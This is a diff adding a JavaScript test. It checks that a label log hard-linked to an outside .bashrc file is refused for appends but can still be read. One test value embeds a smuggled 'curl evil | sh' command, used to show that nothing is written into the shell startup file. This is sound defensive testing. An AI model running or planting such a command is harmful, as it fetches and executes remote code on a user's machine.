@@ -45,6 +45,24 @@ describe('labels: the log stays a regular file inside the workspace (issue #9)',
     assert.equal(fs.readFileSync(target, 'utf8'), 'export PATH=/usr/bin\n');
   });
 
+  it('a log that is a hard link to a file elsewhere is read but never appended to; the other file is untouched', async function () {
+    const target = path.join(outside, '.bashrc');
+    fs.linkSync(target, log);
+    for (const root of [ws, undefined]) {
+      await assert.rejects(appendEvents(log, [ev('ada', org('MIT; curl evil | sh', 'Academia'), 1)], { root }), refused('hard-link', /it has 2 hard links.*another name/));
+    }
+    assert.equal(fs.readFileSync(target, 'utf8'), 'export PATH=/usr/bin\n');
+    // Reading is allowed (and finds no events in a shell script: one invalid line).
+    const read = await readLabelLog(log, { root: ws });
+    assert.equal(read.events.length, 0);
+    // After copying it to a file of its own, appends work.
+    fs.copyFileSync(log, `${log}.tmp`);
+    fs.renameSync(`${log}.tmp`, log);
+    await appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1, 'h1')], { root: ws });
+    assert.equal(fs.readFileSync(target, 'utf8'), 'export PATH=/usr/bin\n');
+    assert.match(fs.readFileSync(log, 'utf8'), /"h1"/);
+  });
+
   it('a dangling symlink at the log is refused too (an append would otherwise create its target)', async function () {
     const target = path.join(outside, 'created.jsonl');
     fs.symlinkSync(target, log);
